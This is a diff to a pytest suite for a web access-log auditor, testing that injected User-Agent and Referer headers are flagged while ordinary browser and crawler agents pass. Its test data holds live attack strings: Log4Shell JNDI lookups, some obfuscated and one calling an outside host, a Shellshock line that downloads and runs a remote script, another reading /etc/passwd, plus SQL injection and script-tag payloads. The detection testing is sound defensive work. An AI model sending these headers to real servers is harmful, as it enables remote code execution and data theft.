@@ -193,9 +193,114 @@ def test_a_target_ending_in_a_comment_mark_and_spaces_is_read_in_linear_time():
 
 
 def test_agent_classes():
-    assert patterns.agent_class(GOOGLE.encode()) == ("Googlebot", False)
-    assert patterns.agent_class(b"Mozilla/5.00 (Nikto/2.5.0)") == (None, True)
-    assert patterns.agent_class(BROWSER.encode()) == (None, False)
+    assert patterns.agent_class(GOOGLE.encode()) == ("Googlebot", False, False)
+    assert patterns.agent_class(b"Mozilla/5.00 (Nikto/2.5.0)") == (None, True, False)
+    assert patterns.agent_class(BROWSER.encode()) == (None, False, False)
+    assert patterns.agent_class(b"Googlebot/2.1 ${jndi:ldap://x/a}") == (None, False, True)
+
+
+# Ordinary user agents (crawler name or None) and referers: no header injection.
+ORDINARY_AGENTS = [
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+     "Chrome/131.0.0.0 Safari/537.36", None),
+    ("Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) "
+     "SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", None),
+    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0", None),
+    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 "
+     "(KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1", None),
+    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
+     "like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/442.0.0.38.108;FBBV/549195014;FBDV/iPhone14,5;"
+     "FBMD/iPhone;FBSN/iOS;FBSV/17.1.2;FBSS/3;FBID/phone;FBLC/id_ID;FBOP/5;FBRV/0]", None),
+    ("Mozilla/5.0 (Linux; Android 12; SM-A125F Build/SP1A.210812.016; wv) AppleWebKit/537.36 "
+     "(KHTML, like Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 Instagram "
+     "309.1.0.41.113 Android (31/12; 320dpi; 720x1471; samsung; SM-A125F; a12; mt6765; in_ID; "
+     "541635890)", None),
+    ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; SLCC2; .NET CLR "
+     "2.0.50727; .NET4.0C; .NET4.0E)", None),
+    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, "
+     "like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
+     "+http://www.google.com/bot.html)", "Googlebot"),
+    (GOOGLE, "Googlebot"),
+    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
+     "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", "Bingbot"),
+    ("WhatsApp/2.23.20.0", None), ("WhatsApp/2.2407.3 A", None),
+    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Facebook"),
+    ("TelegramBot (like TwitterBot)", "Twitterbot"), ("curl/8.5.0", None), ("-", None),
+]
+ORDINARY_REFERERS = [
+    "-", "https://www.google.com/", "https://www.google.co.id/",
+    "android-app://com.google.android.googlequicksearchbox/",
+    "https://l.facebook.com/l.php?u=https%3A%2F%2Fpn-bangil.go.id%2Fberita%2F&h=AT3xQ1",
+    "https://www.bing.com/search?q=cara+select+data+from+sipp+pn+bangil&form=QBLH",
+    "https://pn-bangil.go.id/?s=jum'at+sidang", "https://pn-bangil.go.id/berita/sidang-1/",
+]
+
+
+@pytest.mark.parametrize(("agent", "crawler"), ORDINARY_AGENTS)
+def test_an_ordinary_user_agent_carries_no_injection(agent, crawler):
+    assert patterns.agent_class(agent.encode()) == (crawler, False, False)
+
+
+@pytest.mark.parametrize("referer", ORDINARY_REFERERS)
+def test_an_ordinary_referer_carries_no_injection(referer):
+    assert not patterns.header_injection(referer.encode())
+
+
+# Injection carried in a header, as nginx logs it (a quote as \x22)
+HEADER_ATTACKS = [
+    "${jndi:ldap://45.1.1.1:1389/Exploit}", "Mozilla/5.0 ${jndi:dns://x.oast.me/a}",
+    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
+    "${j${env:x:-n}di:ldap://x/a}", "${${upper:J}NDI:LDAP://x/a}",
+    r"() { :; }; /bin/bash -c \x22wget http://45.1.1.1/a.sh -O- | sh\x22",
+    "() { ignored; }; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd",
+    r"<?php echo md5(\x22x\x22); ?>",
+    r"}__test|O:21:\x22JDatabaseDriverMysqli\x22:3:{s:2:\x22fc\x22;O:17:\x22SimplePie\x22:3:{",
+    "Mozilla/5.0 (x) $(nslookup x.oast.me)",
+    "Mozilla/5.0' AND SLEEP(5)-- -", "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
+    "1' OR '1'='1", r"1\x22 or \x221\x22=\x221", "-1 UNION ALL SELECT NULL,NULL-- -",
+    "<script>alert(document.cookie)</script>",
+]
+
+
+@pytest.mark.parametrize("attack", HEADER_ATTACKS)
+@pytest.mark.parametrize("header", ["agent", "referer"])
+def test_injection_in_the_user_agent_or_referer_is_a_finding(tmp_path, attack, header):
+    """Log4Shell (also nested to hide its name), Shellshock, PHP and SQL injection and
+    script tags come in the User-Agent and Referer, which Log4j logs, a CGI script gets
+    and a log viewer shows; only their scanner names were looked for (the agent's)."""
+    log = tmp_path / "access.log"
+    log.write_text(line("45.1.1.1", "30/Nov/2026:09:00:00", "GET / HTTP/1.1",
+                        **{header: attack}))
+    found = {f["category"]: f for f in audit(log, tmp_path / "state")["findings"]}
+    assert set(found) == {"header_injection"}
+    assert (found["header_injection"]["count"], found["header_injection"]["crs"]) == (
+        1, "CRS 932/933/941/942/944 header")
+
+
+def test_an_apache_line_s_escaped_header_and_a_clean_log_of_ordinary_agents(tmp_path):
+    """Apache writes the quotes of a serialized object as \\"; a log of ordinary user
+    agents and referers, crawlers included, has no finding and counts its crawlers."""
+    attack = r'}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";'
+    log = tmp_path / "access.log"
+    log.write_text("".join(
+        line("36.1.1.1", f"30/Nov/2026:08:00:{i:02d}", "GET /berita/ HTTP/1.1", agent=agent,
+             referer=ORDINARY_REFERERS[i % len(ORDINARY_REFERERS)])
+        for i, (agent, _c) in enumerate(ORDINARY_AGENTS)))
+    result = audit(log, tmp_path / "state")
+    assert result["findings"] == []
+    assert result["crawlers"] == {"Googlebot": 2, "Bingbot": 1, "Facebook": 1, "Twitterbot": 1}
+    apache = tmp_path / "other_vhosts_access.log"
+    apache.write_text(line("45.1.1.2", "30/Nov/2026:09:00:00", "GET / HTTP/1.1", agent=attack))
+    assert [(f["category"], f["count"]) for f in audit(apache, tmp_path / "state")["findings"]] \
+        == [("header_injection", 1)]
+
+
+@pytest.mark.parametrize("unit", ["${", "() ", "$(", "' or ", "or 1", "union/**/ ",
+                                  'o:1:"', "\\x22"])
+def test_a_hostile_header_is_read_in_linear_time(unit):
+    with within(20, "reading the header"):
+        patterns.header_injection((unit * (weblog.MAX_LINE // len(unit))).encode())
 
 
 def test_audit_counts_and_findings(tmp_path):
